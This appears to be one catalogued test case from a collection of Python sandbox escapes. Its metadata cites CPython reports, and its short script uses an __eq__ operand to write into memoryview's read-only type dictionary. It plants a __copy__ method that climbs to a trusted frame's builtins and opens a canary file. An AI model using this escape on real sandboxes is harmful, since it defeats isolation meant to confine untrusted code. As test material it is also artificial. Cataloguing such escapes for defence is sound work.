# id: mappingproxy-operand-leak
# family: guard-confusion
# kind: escape
# invariant: C, D, E
# origin: CPython reports gh-152405, gh-88004 and bpo-43838, open in every release
# technique: == hands the dictionary behind a read-only view to the other operand; a method added there runs in a trusted frame
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import copy


def planted(instance):
    try:
        raise LookupError
    except LookupError as error:
        trusted = error.__traceback__.tb_frame.f_back
    print(trusted.f_builtins["open"]("canary.txt").read())
    return instance


class Operand:
    def __eq__(self, behind):
        behind["__copy__"] = planted


vars(memoryview) == Operand()
copy.copy(memoryview(b""))
